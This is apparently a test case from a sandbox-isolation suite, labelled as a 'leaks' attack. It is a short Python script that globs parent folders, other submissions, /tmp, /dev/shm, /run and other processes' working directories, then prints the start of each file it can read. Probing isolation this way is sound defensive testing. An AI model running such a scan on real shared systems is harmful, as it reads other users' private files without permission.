# attack: looks for others' notebooks above, beside and in the places of other children
# family: leaks
# base: blank
# points: 0
# %% softmax
import glob, os
for pattern in ("../*", "../../*/*.ipynb", "../../../submitted/*/*/*", "/tmp/*", "/var/tmp/*", "/notebook/../*", "CANARY/**", "/proc/*/cwd/*", "/dev/shm/*", "/run/**"):
    for path in glob.glob(pattern, recursive=True):
        try:
            print(path, open(path).read(300))
        except (OSError, UnicodeDecodeError) as error:
            print(path, error)
